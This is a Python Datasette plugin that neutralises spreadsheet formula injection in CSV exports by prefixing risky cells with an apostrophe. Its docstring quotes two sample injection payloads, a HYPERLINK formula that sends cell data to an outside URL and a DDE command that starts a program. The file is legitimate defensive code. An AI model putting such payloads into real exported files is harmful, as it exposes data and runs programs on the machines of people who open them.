"""Datasette plugin, and the rule `harvester export` shares: no CSV cell the project writes is a formula.

Text from the site is written to CSV files that journalists open in spreadsheets, and a spreadsheet runs a
cell beginning `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula:
`=HYPERLINK("http://…?"&A1,"Click")` sends the sheet away, `+cmd|' /C calc'!A0` starts a program. Such a
cell gets a leading apostrophe, which spreadsheets take as "this is text" and do not show. A cell that is
a plain number (`-3`, `+4.5`) is left alone: it is no formula, and a spreadsheet reads it as the number.
JSON is never touched: it is for programs, which get the exact text.

Datasette 0.65 has no hook for its CSV cells, so `asgi_wrapper` rewrites the CSV it streams (every `.csv`
page), record by record, leaving every record without such a cell byte for byte as
Datasette wrote it. Loaded from the plugins directory by `harvester serve` and by plain `datasette` on a
`harvester publish` copy, so it imports nothing from the harvester; harvester.export imports it.
"""

from __future__ import annotations

import codecs
import csv
import io
import re

from datasette import hookimpl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
CSV_CONTENT_TYPES = (b"text/plain", b"text/csv")


def neutralise_cell(value):
    """VALUE, with a leading apostrophe if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_row(row: list) -> list:
    return [neutralise_cell(value) for value in row]


class CsvStream:
    """Rewrites a CSV stream fed in arbitrary pieces, record by record, each once it has wholly arrived
    (a record ends at a newline outside quotes: its count of '"' so far is even)."""

    def __init__(self):
        self._decoder = codecs.getincrementaldecoder("utf-8")()
        self._pending = ""

    def feed(self, data: bytes, final: bool = False) -> bytes:
        self._pending += self._decoder.decode(data, final)
        pending = self._pending
        if final or (pending.endswith("\n") and pending.count('"') % 2 == 0):
            whole = len(pending)  # Datasette writes a record at a time: the usual case
        else:
            whole = sum(map(len, records_in(pending)))
        ready, self._pending = pending[:whole], pending[whole:]
        # One parse (in C) finds whether any cell needs it: most text is passed on exactly as Datasette wrote it.
        if not any(neutralise_row(cells) != cells for cells in csv.reader(io.StringIO(ready, newline=""))):
            return ready.encode("utf-8")
        records = records_in(ready)
        unended = ready[sum(map(len, records)) :]  # the stream's last record, when it ends without a newline
        rewritten = "".join(map(rewrite_record, records)) + (rewrite_record(unended) if unended else "")
        return rewritten.encode("utf-8")


def records_in(text: str) -> list[str]:
    """The whole records TEXT begins with, each with its line ending; a record not yet ended is left out."""
    records, start, counted, quotes = [], 0, 0, 0
    end = text.find("\n")
    while end >= 0:
        quotes += text.count('"', counted, end)
        counted = end
        if quotes % 2 == 0:
            records.append(text[start : end + 1])
            start = end + 1
        end = text.find("\n", end + 1)
    return records


def rewrite_record(record: str) -> str:
    """One CSV record (with its line ending) as written, or re-written if a cell of it is neutralised."""
    cells = next(csv.reader([record]), [])
    safe = neutralise_row(cells)
    if safe == cells:
        return record
    out = io.StringIO()
    csv.writer(out, lineterminator=record[len(record.rstrip("\r\n")) :]).writerow(safe)
    return out.getvalue()


def is_csv_request(scope) -> bool:
    # Datasette takes the format from the path alone (a table named "x.csv" is spelt "x~2Ecsv").
    return scope.get("type") == "http" and scope.get("path", "").endswith(".csv")


@hookimpl
def asgi_wrapper(datasette):
    def wrap(app):
        async def neutralised(scope, receive, send):
            if not is_csv_request(scope):
                await app(scope, receive, send)
                return
            stream = None

            async def send_neutralised(message):
                nonlocal stream
                if message["type"] == "http.response.start":
                    headers = dict(message.get("headers") or [])
                    if message["status"] == 200 and headers.get(b"content-type", b"").startswith(
                        CSV_CONTENT_TYPES
                    ):
                        stream = CsvStream()
                        message = message | {
                            "headers": [
                                (k, v) for k, v in message["headers"] if k.lower() != b"content-length"
                            ]
                        }
                elif message["type"] == "http.response.body" and stream is not None:
                    final = not message.get("more_body", False)
                    message = message | {"body": stream.feed(message.get("body", b""), final)}
                await send(message)

            await app(scope, receive, send_neutralised)

        return neutralised

    return wrap
